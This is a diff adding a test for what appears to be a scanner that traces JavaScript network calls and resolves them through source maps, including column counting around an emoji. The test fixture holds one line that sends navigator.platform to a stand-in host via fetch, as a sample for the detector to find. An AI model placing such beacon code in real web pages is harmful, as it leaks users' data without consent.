@@ -102,3 +102,12 @@ def test_a_source_map_that_is_none_changes_nothing_but_a_note(tmp_path: Path) ->
         assert script.source_map is None
         assert [flow.host for flow in script.flows] == ["sink.test"]
         assert [(gap.kind, gap.hides_findings) for gap in script.gaps] == [("source-map-not-read", False)]
+
+
+def test_columns_of_a_source_map_are_counted_as_it_counts_them(tmp_path: Path) -> None:
+    """“😀” is four bytes and two units: the call begins at unit 7 of its line."""
+    (tmp_path / "a.js").write_text("/*😀*/ fetch('https://sink.test/?' + navigator.platform)\n//# sourceMappingURL=m")
+    (tmp_path / "m").write_text('{"version": 3, "sources": ["a.ts", "b.ts"], "mappings": "AAAA,OCAA,CDAA"}')
+    (flow,) = explain(str(tmp_path), "sink.test").flows
+    assert flow.flow.origin is not None
+    assert flow.flow.origin.file == "b.ts"
